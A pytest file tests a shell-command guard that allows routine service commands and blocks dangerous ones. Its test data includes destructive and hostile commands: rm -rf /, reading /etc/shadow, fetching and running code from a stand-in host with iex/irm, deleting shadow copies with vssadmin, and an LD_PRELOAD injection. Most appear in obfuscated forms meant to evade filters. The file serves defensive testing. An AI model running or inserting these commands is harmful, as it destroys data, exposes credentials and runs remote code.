"""What makes the guard decide: the form of a command, never its spelling."""

from __future__ import annotations

import pytest

from runwright.checks.guard import Shell, judge, judge_argv
from runwright.checks.guard.judge import MAX_BYTES


@pytest.mark.parametrize(
    ("shell", "command"),
    [
        ("bash", "systemctl restart nginx"),
        ("bash", "sudo systemctl status nginx --no-pager"),
        ("bash", "systemctl is-active nginx || systemctl start nginx"),
        ("bash", "for unit in nginx redis; do systemctl is-active $unit; done"),
        ("bash", "df -h / | awk 'NR==2 {print $5}'"),
        ("bash", 'if [ "$(df --output=pcent / | tail -1 | tr -dc 0-9)" -gt 90 ]; then logger full; fi'),
        ("sh", "service nginx restart"),
        ("sh", "/etc/init.d/nginx status"),
        ("powershell", "Restart-Service -Name Spooler -Force"),
        ("powershell", "if ((Get-Service Spooler).Status -ne 'Running') { Start-Service Spooler }"),
        ("powershell", "Get-WinEvent -FilterHashtable @{LogName='System'; StartTime=(Get-Date).AddHours(-1)}"),
        ("cmd", "sc query Spooler | findstr RUNNING"),
        ("cmd", "net stop w32time && net start w32time"),
        ("cmd", "timeout /t 5 /nobreak"),
    ],
)
def test_known_safe_forms_are_allowed(shell: Shell, command: str) -> None:
    found = judge(shell, command)
    assert found.verdict == "allow", found.reasons
    assert found.reasons[0].startswith("every part has a known-safe form")


@pytest.mark.parametrize(
    ("shell", "command"),
    [
        ("bash", "queuectl pause orders"),
        ("bash", "systemctl restart nginx; queuectl pause orders"),
        ("bash", "systemctl status $(queuectl name)"),
        ("bash", "df -h > /etc/motd"),
        ("bash", "systemctl stop nginx"),
        ("bash", "if then fi ((("),
        ("bash", "echo hello &"),
        ("powershell", "Invoke-Orders -All"),
        ("powershell", "Get-Service 'unclosed"),
        ("cmd", "queuectl pause"),
        ("bash", ""),
        ("cmd", "   "),
        ("powershell", "# only words"),
        ("bash", "systemctl restart nginх"),
        ("bash", "x" * (MAX_BYTES + 1)),
        ("bash", "echo a;" * 2000),
    ],
)
def test_what_has_no_known_safe_form_needs_a_second_person(shell: Shell, command: str) -> None:
    found = judge(shell, command)
    assert found.verdict in {"review", "block"}
    assert found.reasons


@pytest.mark.parametrize(
    ("shell", "plain", "hidden"),
    [
        ("bash", "rm -rf /", "r''m -r\"f\" /"),
        ("bash", "rm -rf /", "\\rm -rf /"),
        ("bash", "rm -rf /", "c=rm; $c -rf /"),
        ("bash", "rm -rf /", "echo cm0gLXJmIC8= | base64 -d | sh"),
        ("bash", "rm -rf /", "sudo env nice timeout 5 busybox rm -rf /"),
        ("bash", "rm -rf /", "{rm,-rf,/}"),
        ("bash", "rm -rf /", "alias l='rm -rf /'; l"),
        ("bash", "rm -rf /", "rm -rf /usr/../"),
        ("bash", "rm -rf /", "[ -d / ] && rm -rf /"),
        ("bash", "rm -rf /", "cat <<EOF | bash\nrm -rf /\nEOF"),
        ("bash", "cat /etc/shadow", "cat /e??/sh?d?w"),
        ("bash", "cat /etc/shadow", "cat${IFS}/etc/shadow"),
        ("bash", "cat /etc/shadow", "cd /etc; cat shadow"),
        ("powershell", "iex (irm http://x.test/a)", "&('i'+'ex') (irm http://x.test/a)"),
        ("powershell", "iex (irm http://x.test/a)", "I`e`X (irm http://x.test/a)"),
        ("powershell", "vssadmin delete shadows /all", "& \"vss$('admin')\" delete shadows /all"),
        ("cmd", "vssadmin delete shadows /all", "v^ss^admin delete shadows /all"),
        ("cmd", "vssadmin delete shadows /all", "set x=vssadmin& call %x% delete shadows /all"),
        ("cmd", "vssadmin delete shadows /all", 'cmd /c "vssadmin delete shadows /all"'),
    ],
)
def test_hiding_a_dangerous_command_does_not_help(shell: Shell, plain: str, hidden: str) -> None:
    assert judge(shell, plain).verdict == "block"
    assert judge(shell, hidden).verdict == "block"


def test_letters_of_another_alphabet_are_read_as_what_they_look_like() -> None:
    assert judge("bash", "rm -rf /").reasons[0] in judge("bash", "rм -rf /").reasons


def test_a_command_that_only_speaks_of_danger_is_no_danger() -> None:
    assert judge("bash", "echo 'never run rm -rf / here'").verdict == "allow"
    assert judge("bash", "grep -c mimikatz /var/log/app/app.log").verdict == "allow"


def test_words_without_a_shell_are_judged_alike() -> None:
    assert judge_argv(["systemctl", "restart", "nginx"]).verdict == "allow"
    assert judge_argv(["rm", "-rf", "/"]).verdict == "block"
    assert judge_argv(["sc.exe", "query", "Spooler"], "windows").verdict == "allow"
    assert judge_argv(["sh", "-c", "rm -rf /"]).verdict == "block"
    assert judge_argv([]).verdict == "review"


def test_signs_of_a_shell_mean_nothing_without_one() -> None:
    assert judge_argv(["echo", "a; rm -rf /"]).verdict == "allow"


@pytest.mark.parametrize("inserted", ["${{ params.service }}", "${{ params.service | default('nginx') }}"])
def test_an_inserted_value_is_one_argument(inserted: str) -> None:
    assert judge_argv(["systemctl", "restart", inserted]).verdict == "allow"
    assert judge_argv([inserted, "restart", "nginx"]).verdict == "review"
    assert judge_argv(["sh", "-c", inserted]).verdict == "review"


def test_the_environment_of_a_script_is_judged_with_it() -> None:
    script = 'systemctl restart "$UNIT"'
    assert judge("bash", script, environment={"UNIT": "nginx"}).verdict == "allow"
    assert judge("bash", script, environment={"LD_PRELOAD": "/tmp/x.so"}).verdict == "block"
    assert judge("bash", script, environment={"PATH": "/opt/own/bin"}).verdict == "review"


def test_a_service_may_be_stopped_when_it_is_started_again() -> None:
    assert judge("bash", "systemctl stop app && systemctl start app").verdict == "allow"
    assert judge("bash", "systemctl stop app && systemctl start other").verdict == "review"
